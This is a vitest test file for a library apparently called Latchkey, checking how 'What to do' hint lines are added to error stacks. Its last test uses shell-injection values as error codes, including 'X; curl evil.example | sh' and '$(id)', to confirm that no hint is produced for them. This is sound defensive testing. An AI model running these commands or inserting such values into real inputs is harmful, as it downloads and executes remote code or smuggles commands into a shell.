import { inspect } from 'node:util';
import { expect, onTestFinished, test, vi } from 'vitest';
import { buildError, LatchkeyError } from '../../../core/index.ts';
import { whatToDo } from '../../../core/base/what-to-do.ts';

const MESSAGE = 'The service answered:\n    at some length.';
const LINE = 'What to do: npx latchkey explain UNEXPECTED_STATUS';

const makers = {
  'a LatchkeyError': () => new LatchkeyError('UNEXPECTED_STATUS', MESSAGE),
  'a known error of the service': () => buildError('UNEXPECTED_STATUS', MESSAGE, {}),
};

test.each(Object.entries(makers))(
  'the stack of %s has one "What to do" line between the message and the stack frames',
  (_name, make) => {
    const error = make();
    const [head, calls] = (error.stack ?? '').split(`\n${LINE}\n`);
    expect(head?.endsWith(`Error: ${MESSAGE}`)).toBe(true);
    expect(calls).toMatch(/^ {4}at /);
    expect(calls).not.toContain('What to do');
    expect(error.message).toBe(MESSAGE);
    expect(inspect(error)).toContain(LINE);
  },
);

test.each(Object.entries(makers))('the stack of %s has no "What to do" line in production', (_name, make) => {
  vi.stubEnv('NODE_ENV', 'production');
  onTestFinished(() => void vi.unstubAllEnvs());
  expect(make().stack).not.toContain('What to do');
});

test('the "What to do" line in error.stack leaves the stack frames intact', () => {
  const error = new LatchkeyError('NETWORK', 'No answer.');
  const lines = (error.stack ?? '').split('\n');
  expect(lines.slice(2)).not.toEqual([]);
  expect(lines.slice(2).filter((line) => !/^ {4}at \S/.test(line))).toEqual([]);
  expect(Object.keys(error)).not.toContain('stack');
  expect(structuredClone(error)).toMatchObject({ message: 'No answer.', stack: error.stack });
});

test('a LatchkeyError in an engine other than V8 keeps error.stack unchanged', () => {
  const { prepareStackTrace } = Error;
  onTestFinished(() => void Object.assign(Error, { prepareStackTrace }));
  Error.prepareStackTrace = (_error, calls) => calls;
  expect(Array.isArray(new LatchkeyError('NETWORK', '').stack)).toBe(true);
  // As in Firefox and Safari, which have neither the message nor `at` in it.
  Error.prepareStackTrace = () => 'call@https://app.example/main.js:1:2';
  expect(new LatchkeyError('NETWORK', '').stack).toBe('call@https://app.example/main.js:1:2');
});

test.each(['X; curl evil.example | sh', 'X\nY', '$(id)', '--help', ''])(
  'an error whose code is unsafe in a shell command (%j) gets no "What to do" line',
  (code) => {
    expect(whatToDo(code)).toBe('');
    expect(buildError(code, 'Failed', {}).stack).not.toContain('What to do');
  },
);
